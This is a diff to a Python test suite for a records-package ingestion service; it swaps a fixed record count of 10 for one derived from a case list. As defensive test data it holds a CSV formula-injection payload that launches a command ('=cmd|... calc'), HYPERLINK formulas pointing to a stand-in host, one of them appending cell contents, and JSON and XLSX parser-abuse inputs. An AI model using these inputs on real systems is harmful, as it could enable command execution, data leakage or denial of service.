@@ -16,7 +16,7 @@ from datetime import date, datetime
 from pathlib import Path
 
 import pytest
-from tests.e2e.handmade import RECORD_HEADER, setup_home
+from tests.e2e.handmade import CASES, RECORD_HEADER, setup_home
 from tests.reliability.packages import (
     assert_accepted,
     assert_expected_codes,
@@ -31,6 +31,7 @@ from tests.reliability.packages import (
 )
 
 _ids = itertools.count(1)
+N = len(CASES)  # one record per handmade case in every package built here
 
 
 @pytest.fixture(scope="module")
@@ -49,7 +50,7 @@ def fresh(env) -> tuple[Path, object, Path, str]:
     return home, key, work, f"ICE-2026-9{n:05d}"
 
 
-def csv_package(env, text_or_bytes: str | bytes, count: int = 10, **kw: object):
+def csv_package(env, text_or_bytes: str | bytes, count: int = N, **kw: object):
     home, key, work, batch = fresh(env)
     data = text_or_bytes.encode("utf-8") if isinstance(text_or_bytes, str) else text_or_bytes
     return home, package(work / "pkg", key, data, count=count, batch_id=batch, **kw), batch
@@ -82,7 +83,7 @@ REFUSED_RECORDS: dict[str, tuple[Callable[[], bytes], str]] = {
     "duplicate_header_by_case": (lambda: csv_of(rows(agent="D"), RECORD_HEADER + [" ZIP "])
                                  .encode(), "'zip' repeats"),
     "row_wider_than_header": (lambda: (csv_of(rows(agent="W")) + "a" + ",b" * 25 + "\r\n")
-                              .encode(), "line 12"),
+                              .encode(), f"line {N + 2}"),
     "unterminated_quote": (lambda: csv_of(rows(agent="Q")).encode() + b'"R11,Ann', "malformed"),
     "header_only_garbage_names": (lambda: b"\xef\xbb\xbf=cmd|' /C calc'!A0,b,c\r\n1,2,3\r\n",
                                   "missing required column"),
@@ -112,8 +113,8 @@ def _manifest_variant(env, mutate: Callable[[bytes], bytes]):
     data = csv_of(rows(agent=batch)).encode()
     from tests.reliability.packages import manifest
 
-    raw = json.dumps(manifest(data, "records.csv", 10, batch)).encode("utf-8")
-    return home, package(work / "pkg", key, data, count=10, batch_id=batch,
+    raw = json.dumps(manifest(data, "records.csv", N, batch)).encode("utf-8")
+    return home, package(work / "pkg", key, data, count=N, batch_id=batch,
                          manifest_bytes=mutate(raw))
 
 
@@ -122,10 +123,11 @@ MANIFEST_BREAKS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
     "repeated_key": (lambda raw: raw[:-1] + b', "record_count": 11}', "more than once"),
     "nested_100k_deep": (lambda raw: raw[:-1] + b', "x": ' + b"[" * 100_000 + b"]" * 100_000
                          + b"}", "batch.json"),
-    "5000_digit_number": (lambda raw: raw.replace(b'"record_count": 10',
+    "5000_digit_number": (lambda raw: raw.replace(f'"record_count": {N}'.encode(),
                                                   b'"record_count": 1' + b"0" * 5000),
                           "batch.json"),
-    "nan": (lambda raw: raw.replace(b'"record_count": 10', b'"record_count": NaN'), "NaN"),
+    "nan": (lambda raw: raw.replace(f'"record_count": {N}'.encode(), b'"record_count": NaN'),
+            "NaN"),
     "not_an_object": (lambda raw: b"[" + raw + b"]", "not a JSON object"),
     "over_one_mib": (lambda raw: raw[:-1] + b', "pad": "' + b"p" * (1 << 20) + b'"}',
                      "larger than"),
@@ -230,10 +232,10 @@ def test_utf8_boms_on_records_and_manifest_are_accepted(env) -> None:
     data = b"\xef\xbb\xbf" + csv_of(rows(agent=batch)).encode()
     from tests.reliability.packages import manifest
 
-    raw = b"\xef\xbb\xbf" + json.dumps(manifest(data, "records.csv", 10, batch)).encode()
-    pkg = package(work / "pkg", key, data, count=10, batch_id=batch, manifest_bytes=raw)
+    raw = b"\xef\xbb\xbf" + json.dumps(manifest(data, "records.csv", N, batch)).encode()
+    pkg = package(work / "pkg", key, data, count=N, batch_id=batch, manifest_bytes=raw)
     before = snapshot(home)
-    got = decided(home, assert_accepted(home, before, submit(home, pkg), 10))
+    got = decided(home, assert_accepted(home, before, submit(home, pkg), N))
     assert_expected_codes(got)
 
 
@@ -241,7 +243,7 @@ def test_utf8_boms_on_records_and_manifest_are_accepted(env) -> None:
 def test_other_line_endings_are_accepted(env, terminator: str) -> None:
     home, pkg, batch = csv_package(env, csv_of(rows(agent=f"LE{len(terminator)}{ord(terminator)}"),
                                                terminator=terminator))
-    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), 10))
+    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), N))
     assert_expected_codes(got)
 
 
@@ -250,8 +252,8 @@ def test_quotes_commas_newlines_and_formulas_inside_fields(env) -> None:
     decide exactly as the same rows without them."""
     tricky = {"reason": 'He said "leave",\r\nthen, later:\n=HYPERLINK("http://x.test","y")',
               "case_number": '=1+2,"CR"\n-3', "case_agent_id": "@SUM(A1)"}
-    home, pkg, batch = csv_package(env, csv_of(rows(*[tricky] * 10)))
-    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), 10))
+    home, pkg, batch = csv_package(env, csv_of(rows(*[tricky] * N)))
+    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), N))
     assert_expected_codes(got, [r for r in got if r != "R6"])
 
 
@@ -259,7 +261,7 @@ def test_a_formula_as_a_name_is_never_matched(env) -> None:
     home, pkg, batch = csv_package(env, csv_of(rows(
         {"first_name": '=HYPERLINK("http://x.test/?"&A1,"Maria")', "last_name": "+Garcia"},
         agent="FN")))
-    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), 10))
+    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), N))
     assert got["R1"][0] != "DISCLOSE" and got["R1"][2] == ""
     assert_expected_codes(got, [r for r in got if r != "R1"])
 
@@ -292,8 +294,8 @@ def test_xlsx_with_excel_dates_numbers_and_a_serial_date(env) -> None:
         typed.append(t)
     typed[4]["final_order_date"] = 46037  # 2026-01-15 as Excel stores it without a format
     data = _xlsx(typed)
-    pkg = package(work / "pkg", key, data, count=10, batch_id=batch, records_name="records.xlsx")
-    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), 10))
+    pkg = package(work / "pkg", key, data, count=N, batch_id=batch, records_name="records.xlsx")
+    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), N))
     assert_expected_codes(got, [r for r in got if r != "R5"])
     assert got["R5"][0] == "REJECTED" and "R_ORDER_MISSING" in got["R5"][1].split(";")
 
@@ -311,7 +313,7 @@ def test_xlsx_with_a_dtd_is_refused(env) -> None:
                     + part
                 assert b"<!DOCTYPE" in part
             dst.writestr(info, part)
-    pkg = package(work / "pkg", key, out.getvalue(), count=10, batch_id=batch,
+    pkg = package(work / "pkg", key, out.getvalue(), count=N, batch_id=batch,
                   records_name="records.xlsx")
     assert "DTD" in assert_refused(home, snapshot(home), submit(home, pkg))
 
@@ -322,9 +324,9 @@ def test_parquet_with_a_nested_column_is_refused(env) -> None:
 
     home, key, work, batch = fresh(env)
     cols = {c: [r.get(c, "") for r in rows(agent=batch)] for c in RECORD_HEADER}
-    table = pa.table({**cols, "aliases": pa.array([["a", "b"]] * 10)})
+    table = pa.table({**cols, "aliases": pa.array([["a", "b"]] * N)})
     buf = io.BytesIO()
     pq.write_table(table, buf)
-    pkg = package(work / "pkg", key, buf.getvalue(), count=10, batch_id=batch,
+    pkg = package(work / "pkg", key, buf.getvalue(), count=N, batch_id=batch,
                   records_name="records.parquet")
     assert "unsupported type" in assert_refused(home, snapshot(home), submit(home, pkg))
